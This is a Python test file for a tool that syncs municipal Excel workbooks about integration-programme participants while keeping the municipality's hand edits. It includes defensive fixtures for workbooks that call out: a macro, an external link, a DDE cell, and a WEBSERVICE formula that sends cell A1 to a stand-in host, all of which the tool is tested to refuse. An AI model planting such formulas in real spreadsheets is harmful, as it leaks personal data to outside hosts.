"""Push, status-update and purge edit the data sheet in place: everything else the municipality
did to the workbook stays byte for byte, and what moves with a row moves with its person."""

from __future__ import annotations

import io
import zipfile
from pathlib import Path

import openpyxl
import pytest
from openpyxl.styles import PatternFill

from agii_sync.domain.check import key_findings
from fixtures.handmade import (
    YELLOW,
    add_drawing_sheet,
    as_excel_saves,
    excel_edits,
    libreoffice_reads,
    resave,
    with_dde_cell,
    with_defined_name,
    with_external_link,
    with_macro_project,
)
from fixtures.workspace import MUNICIPALITIES, Workspace, person

SPL = MUNICIPALITIES[0]["id"]
PEOPLE = [person(n, 0, attest_datum="2099-01-31") for n in range(1, 7)]


# Every write also renews the audit anchor, a custom document property (docs/audit.md).
ANCHOR_PART = "docProps/custom.xml"


def parts(content: bytes) -> dict[str, bytes]:
    archive = zipfile.ZipFile(io.BytesIO(content))
    return {name: archive.read(name) for name in archive.namelist()}


def upload(workspace: Workspace, content: bytes) -> None:
    site = workspace.site(SPL)
    site.write(content, site.read().etag)


@pytest.fixture
def handmade(workspace: Workspace) -> list[str]:
    """Six people pushed, then the workbook edited by hand; returns Rij-IDs in sheet order."""
    assert workspace.cli("push", str(workspace.export(PEOPLE))).exit_code == 0
    ids = [r["Rij-ID"] for r in workspace.rows(SPL)]
    content = as_excel_saves(add_drawing_sheet(resave(workspace.workbook_bytes(SPL), excel_edits)))
    upload(workspace, content)
    return ids


def sheet_of(content: bytes, name: str = "Inburgeraars"):  # type: ignore[no-untyped-def]
    return openpyxl.load_workbook(io.BytesIO(content))[name]


def row_of(sheet, row_id: str) -> int:  # type: ignore[no-untyped-def]
    return next(c.row for c in sheet["A"] if c.value == row_id)


def test_push_with_changes_keeps_the_municipalitys_work(
    workspace: Workspace, handmade: list[str], tmp_path: Path
) -> None:
    before = workspace.workbook_bytes(SPL)
    changed = [dict(p) for p in PEOPLE if p is not PEOPLE[1]]  # person 2 (row 3) moved away
    changed[2]["straat"] = "Nieuwe straat"  # person 4 (row 5) updated
    changed.append(person(7, 0, attest_datum="2099-01-31"))  # added
    result = workspace.cli("push", str(workspace.export(changed)))
    assert result.exit_code == 0, result.output
    after = workspace.workbook_bytes(SPL)

    old, new = parts(before), parts(after)
    assert old.keys() == new.keys()
    differing = {name for name in old if old[name] != new[name]}
    assert differing <= {
        ANCHOR_PART,
        "xl/worksheets/sheet1.xml",
        "xl/comments/comment1.xml",
        "xl/drawings/commentsDrawing1.vml",
        "xl/sharedStrings.xml",
        "xl/workbook.xml",
    }, differing
    assert "xl/worksheets/sheet1.xml" in differing
    for unrelated in (
        "xl/styles.xml",
        "xl/worksheets/sheet2.xml",  # Toelichting
        "xl/worksheets/sheet3.xml",  # Lijst, with its table
        "xl/worksheets/sheet4.xml",  # Verborgen (hidden)
        "xl/tables/table1.xml",
        "xl/worksheets/sheet90.xml",
        "xl/drawings/drawing90.xml",
        "xl/media/image90.png",
    ):
        assert old[unrelated] == new[unrelated], unrelated

    sheet = sheet_of(after)
    ids = [c.value for c in sheet["A"][1:]]
    assert ids == [handmade[0], handmade[2], handmade[3], handmade[4], handmade[5], ids[-1]]
    moved = row_of(sheet, handmade[3])  # person 4: was row 5, now row 4
    assert moved == 4
    assert sheet.cell(moved, 4).value.startswith("Nieuwe straat")
    assert sheet.cell(moved, 2).fill.fgColor.rgb == YELLOW  # the fill went with its person
    assert sheet.cell(moved, 2).comment.text == "spreekt ook Frans"
    assert sheet.row_dimensions[row_of(sheet, handmade[2])].height == 31
    assert sheet.column_dimensions["B"].width == 33
    assert sheet.freeze_panes == "C2"
    assert sheet.auto_filter.ref == "A1:N7"
    assert sheet.protection.sheet
    (validation,) = sheet.data_validations.dataValidation
    assert str(validation.sqref) == "N2:N1048576"
    assert not any(c.comment for c in sheet["B"] if c.row != moved)
    book = openpyxl.load_workbook(io.BytesIO(after))
    assert book["Verborgen"].sheet_state == "hidden"
    assert "Activiteiten" in book["Lijst"].tables

    # The comment on the removed row is named by cell and Rij-ID, never by its text.
    assert f"comment B3 (Rij-ID {handmade[1]})" in result.output
    assert "belde op maandag" not in result.output
    (line,) = [x for x in site_lines(workspace) if x["command"] == "push"][-1:]
    assert line["not_carried"] == [f"comment B3 (Rij-ID {handmade[1]})"]
    strings = new["xl/sharedStrings.xml"]
    assert PEOPLE[1]["naam"].encode() not in strings  # the removed person's strings are gone

    rows = libreoffice_reads(after, tmp_path)
    assert [r[0] for r in rows[1:7]] == ids


def test_status_update_changes_only_status_cells(
    workspace: Workspace, handmade: list[str], tmp_path: Path
) -> None:
    before = workspace.workbook_bytes(SPL)
    result = workspace.cli("status-update", "--site", SPL, handmade[3], "Activiteit gestart")
    assert result.exit_code == 0, result.output
    after = workspace.workbook_bytes(SPL)
    old, new = parts(before), parts(after)
    differing = {name for name in old if old[name] != new[name]}
    assert differing <= {"xl/worksheets/sheet1.xml", "xl/sharedStrings.xml", ANCHOR_PART}
    sheet = sheet_of(after)
    assert sheet["N5"].value == "Activiteit gestart"
    assert sheet["N5"].protection.locked is False
    old_sheet = sheet_of(before)
    for row_old, row_new in zip(old_sheet.iter_rows(), sheet.iter_rows(), strict=True):
        for a, b in zip(row_old, row_new, strict=True):
            if a.coordinate != "N5":
                assert (a.value, a.style_id) == (b.value, b.style_id), a.coordinate
    rows = libreoffice_reads(after, tmp_path)
    assert rows[4][13] == "Activiteit gestart"


@pytest.mark.parametrize("site_kind", ["emulator"], indirect=True)
def test_status_update_on_sharepoint_changes_only_the_data_sheet(
    workspace: Workspace, handmade: list[str]
) -> None:
    before = workspace.workbook_bytes(SPL)
    assert (
        workspace.cli("status-update", "--site", SPL, handmade[0], "Gecontacteerd").exit_code == 0
    )
    old, new = parts(before), parts(workspace.workbook_bytes(SPL))
    assert {name for name in old if old[name] != new[name]} <= {
        "xl/worksheets/sheet1.xml",
        "xl/sharedStrings.xml",
        ANCHOR_PART,
    }
    assert sheet_of(workspace.workbook_bytes(SPL))["N2"].value == "Gecontacteerd"


def test_purge_at_the_end_leaves_only_the_template(
    workspace: Workspace, handmade: list[str]
) -> None:
    """docs/protocol.md: at the protocol's end the workbook becomes the empty template; the
    municipality's sheets, drawings and notes go too (the editor keeps them on any other write)."""
    workspace.protocol[SPL] = {"start": "2024-01-01", "end": "2024-12-31"}
    before = workspace.workbook_bytes(SPL)
    result = workspace.cli("purge", "--site", SPL)
    assert result.exit_code == 5, result.output  # someone but AgII's own accounts has access
    assert "still holds 1 principal(s)" in result.output
    assert "3 added sheet(s), 2 note(s) removed" in result.output
    after = workspace.workbook_bytes(SPL)
    old, new = parts(before), parts(after)
    assert {"xl/worksheets/sheet3.xml", "xl/drawings/drawing90.xml"} <= set(old)
    assert not {"xl/worksheets/sheet3.xml", "xl/drawings/drawing90.xml"} & set(new)
    sheet = sheet_of(after)
    assert sheet.max_row == 1
    assert [c.value for c in sheet[1]][0] == "Rij-ID"
    for n in range(1, 7):
        assert all(PEOPLE[n - 1]["naam"].encode() not in data for data in new.values())


def test_a_status_typed_as_a_number_or_padded_is_kept_and_flagged(workspace: Workspace) -> None:
    assert workspace.cli("push", str(workspace.export(PEOPLE))).exit_code == 0

    def type_by_hand(book):  # type: ignore[no-untyped-def]
        book["Inburgeraars"]["N2"] = 3
        book["Inburgeraars"]["N3"] = " Gecontacteerd "
        book["Inburgeraars"]["N4"] = True

    upload(workspace, resave(workspace.workbook_bytes(SPL), type_by_hand))
    changed = [dict(p) for p in PEOPLE]
    changed[4]["straat"] = "Andere straat"
    pushed = workspace.cli("push", str(workspace.export(changed)))
    assert pushed.exit_code == 1, pushed.output  # outside the list: flagged, never re-typed
    assert "not_in_list" in pushed.output
    sheet = sheet_of(workspace.workbook_bytes(SPL))
    assert (sheet["N2"].value, sheet["N3"].value, sheet["N4"].value) == (3, " Gecontacteerd ", True)
    check = workspace.cli("--json", "check", "--site", SPL)
    assert check.exit_code == 1
    codes = {(f["row"], f["code"]) for f in _findings(check.stdout)}
    assert {(2, "status_not_text"), (3, "status_padded"), (4, "status_not_text")} <= codes


def site_lines(workspace: Workspace) -> list[dict]:  # type: ignore[type-arg]
    return [line for line in workspace.audit_lines() if line["site"] == SPL]


def _findings(stdout: str) -> list[dict]:  # type: ignore[type-arg]
    import json

    (site,) = json.loads(stdout)["sites"]
    return site["findings"]


HOSTILE = {
    "macro": with_macro_project,
    "external_link": with_external_link,
    "webservice_name": lambda c: with_defined_name(c, 'WEBSERVICE("https://example.org/?"&amp;A1)'),
    "dde": with_dde_cell,
}


@pytest.mark.parametrize("kind", sorted(HOSTILE))
def test_a_workbook_that_calls_out_is_refused(workspace: Workspace, kind: str) -> None:
    assert workspace.cli("push", str(workspace.export(PEOPLE))).exit_code == 0
    ids = [r["Rij-ID"] for r in workspace.rows(SPL)]
    upload(workspace, HOSTILE[kind](workspace.workbook_bytes(SPL)))
    before = workspace.site(SPL).read()
    changed = [dict(p, straat="Elders") for p in PEOPLE]
    assert workspace.cli("push", str(workspace.export(changed))).exit_code == 5
    assert workspace.cli("status-update", "--site", SPL, ids[0], "Gecontacteerd").exit_code == 5
    assert workspace.site(SPL).read() == before
    check = workspace.cli("--json", "check", "--site", SPL)
    assert check.exit_code == 1
    assert any(f["code"] == "calls_out" for f in _findings(check.stdout))


def test_a_row_deleted_by_hand_comes_back_with_its_status(workspace: Workspace) -> None:
    export = workspace.export(PEOPLE)
    assert workspace.cli("push", str(export)).exit_code == 0
    ids = [r["Rij-ID"] for r in workspace.rows(SPL)]
    assert (
        workspace.cli("status-update", "--site", SPL, ids[2], "Activiteit gestart").exit_code == 0
    )
    workspace.edit_workbook(SPL, lambda book: book["Inburgeraars"].delete_rows(4))
    assert ids[2] not in [r["Rij-ID"] for r in workspace.rows(SPL)]

    check = workspace.cli("--json", "check", "--site", SPL)
    assert check.exit_code == 1
    missing = [f for f in _findings(check.stdout) if f["code"] == "missing_row"]
    assert [f["message"].split()[0] for f in missing] == [ids[2]]

    result = workspace.cli("--json", "push", str(export))
    assert result.exit_code == 0, result.output
    rows = {r["Rij-ID"]: r for r in workspace.rows(SPL)}
    assert rows[ids[2]]["Status activiteit"] == "Activiteit gestart"
    assert {"row_id": ids[2], "reason": "restored"} in site_lines(workspace)[-1]["rows"]
    assert workspace.cli("check", "--site", SPL).exit_code == 0


def test_a_person_removed_by_push_is_not_restored_later(workspace: Workspace) -> None:
    assert workspace.cli("push", str(workspace.export(PEOPLE))).exit_code == 0
    ids = [r["Rij-ID"] for r in workspace.rows(SPL)]
    assert workspace.cli("status-update", "--site", SPL, ids[0], "Gecontacteerd").exit_code == 0
    assert workspace.cli("push", str(workspace.export(PEOPLE[1:]))).exit_code == 0
    assert workspace.cli("check", "--site", SPL).exit_code == 0  # not "missing"
    assert workspace.cli("push", str(workspace.export(PEOPLE))).exit_code == 0
    rows = {r["Rij-ID"]: r for r in workspace.rows(SPL)}
    assert rows[ids[0]]["Status activiteit"] is None  # came back as a new person
    assert {"row_id": ids[0], "reason": "added"} in site_lines(workspace)[-1]["rows"]


def test_protection_and_drop_down_removed_by_hand_come_back(workspace: Workspace) -> None:
    assert workspace.cli("push", str(workspace.export(PEOPLE))).exit_code == 0

    def unprotect(book):  # type: ignore[no-untyped-def]
        sheet = book["Inburgeraars"]
        sheet.protection.sheet = False
        sheet.data_validations.dataValidation = []

    upload(workspace, resave(workspace.workbook_bytes(SPL), unprotect))
    sheet = sheet_of(workspace.workbook_bytes(SPL))
    assert not sheet.protection.sheet and not sheet.data_validations.dataValidation
    more = [*PEOPLE, person(8, 0, attest_datum="2099-01-31")]
    assert workspace.cli("push", str(workspace.export(more))).exit_code == 0
    sheet = sheet_of(workspace.workbook_bytes(SPL))
    assert sheet.protection.sheet
    (validation,) = sheet.data_validations.dataValidation
    assert str(validation.sqref) == "N2:N1048576"
    assert "Activiteit gestart" in validation.formula1
    assert sheet["N8"].protection.locked is False and sheet["B8"].protection.locked is True


def test_the_status_only_read_agrees_with_the_full_read(
    workspace: Workspace, handmade: list[str]
) -> None:
    from agii_sync.formats.workbook import load

    def typed(book):  # type: ignore[no-untyped-def]
        book["Inburgeraars"]["N4"] = 7
        book["Inburgeraars"]["N6"] = " Gecontacteerd"
        # a hand-added row with neither a Rij-ID nor a status cell: the narrow read finds it
        sheet = book["Inburgeraars"]
        sheet.cell(row=sheet.max_row + 2, column=3, value="hand-added")
        # formatted empty rows below (styled empty cells): no rows, for either read
        for row in range(sheet.max_row + 1, sheet.max_row + 3):
            for column in (1, 2, 14):
                sheet.cell(row=row, column=column).fill = PatternFill("solid", fgColor="FFFF00")

    for content in (workspace.workbook_bytes(SPL), resave(workspace.workbook_bytes(SPL), typed)):
        full, narrow = (
            load(content, "Inburgeraars"),
            load(content, "Inburgeraars", status_only=True),
        )
        ids = frozenset(r.row.rij_id for r in full.rows[2:5])  # as a status-update names them
        named = load(content, "Inburgeraars", status_only=True, only=ids)

        def seen(rows):  # type: ignore[no-untyped-def]
            return [
                (r.sheet_row, r.row.rij_id, r.row.status_activiteit, r.status_typed) for r in rows
            ]

        assert seen(narrow.rows) == seen(full.rows)
        assert content == workspace.workbook_bytes(SPL) or seen(narrow.rows)[-1][1] == ""
        assert narrow.rows[0].row.naam == ""  # the narrow read really skipped the rest
        assert seen(named.rows) == [row for row in seen(full.rows) if row[1] in ids]
        assert named.every_key_finding == key_findings(full.rows)  # of every row, still
        assert full.every_key_finding is None and narrow.every_key_finding is None


def test_named_rows_that_cannot_be_edited_in_place_are_written_from_a_whole_read(
    workspace: Workspace, handmade: list[str]
) -> None:
    """A one-row read never writes on its own what it did not read: when the named rows
    cannot be edited where they are (here: the Toelichting must be rebuilt first), every row
    is read again and only the named row's status changes."""
    from agii_sync.formats.workbook import load, render

    content = resave(workspace.workbook_bytes(SPL), lambda book: book.remove(book["Toelichting"]))
    named = load(content, "Inburgeraars", status_only=True, only=frozenset(handmade[1:2]))
    assert [r.row.rij_id for r in named.rows] == handmade[1:2] and named.named_only
    planned = [named.rows[0].row.model_copy(update={"status_activiteit": "Gecontacteerd"})]

    result = render(named, planned, retention_months=6, restore_toelichting=True)

    before, after = load(content, "Inburgeraars"), load(result.content, "Inburgeraars")
    assert "Toelichting" in after.sheetnames
    expected = [r.row.model_dump() for r in before.rows]
    expected[1]["status_activiteit"] = "Gecontacteerd"
    assert [r.row.model_dump() for r in after.rows] == expected


def _as_openpyxl_reads(content: bytes) -> list[object]:
    """Everything of the data sheet a reader sees: layout, protection, drop-down, each cell's
    value, type, number format, lock and font (an empty cell's type aside)."""
    book = openpyxl.load_workbook(io.BytesIO(content))
    sheet = book["Inburgeraars"]
    seen: list[object] = [
        book.sheetnames,
        sheet.auto_filter.ref,
        sheet.freeze_panes,
        (sheet.protection.sheet, sheet.protection.autoFilter, sheet.protection.sort),
        [(str(v.sqref), v.formula1, v.errorStyle) for v in sheet.data_validations.dataValidation],
        sorted((k, d.width) for k, d in sheet.column_dimensions.items()),
        [(p.name, p.value) for p in book.custom_doc_props.props],
    ]
    for row in sheet.iter_rows():
        seen.append(
            [
                (c.value, c.data_type if c.value is not None else None, c.number_format)
                + (c.protection.locked, c.font.b)
                for c in row
            ]
        )
    return seen


def test_a_new_workbook_is_what_openpyxl_would_write(tmp_path: Path) -> None:
    """A new workbook is the template (openpyxl) with its rows appended by the editor: a
    reader sees exactly what openpyxl writing every cell gives, formula-like text stays text."""
    from datetime import date

    from agii_sync.domain.row import SharedRow
    from agii_sync.formats import workbook

    rows = [
        SharedRow(
            rij_id=f"ABCDE-{n:05d}",
            naam="=HYPERLINK(1)" if n == 3 else f"Naam {n} & <x>",
            voornaam="Voornaam",
            adres=f"Straat {n}",
            postcode="2800",
            gemeente="Mechelen",
            telefoon="+32 470 00 00 00",
            email="a@voorbeeld.be",
            contacttaal="Arabisch (ARA)",
            niveau_nederlands="A2",
            status_mo="Lopend",
            interesses="Buddy",
            bewaren_tot=date(2027, 1, n % 28 + 1) if n % 2 else None,
            status_activiteit="",
        )
        for n in range(1, 41)
    ]
    made = dict(retention_months=6, key_check="KEYCK-00000")
    edited = workbook.create_workbook("Inburgeraars", rows, **made)  # type: ignore[arg-type]
    by_openpyxl = workbook._openpyxl_workbook("Inburgeraars", rows, **made)  # type: ignore[arg-type]
    assert _as_openpyxl_reads(edited) == _as_openpyxl_reads(by_openpyxl)
    assert len(_as_openpyxl_reads(edited)) == 7 + 41
    read = libreoffice_reads(edited, tmp_path)
    assert read[0][0] == "Rij-ID" and read[3][1] == "=HYPERLINK(1)" and len(read) == 41
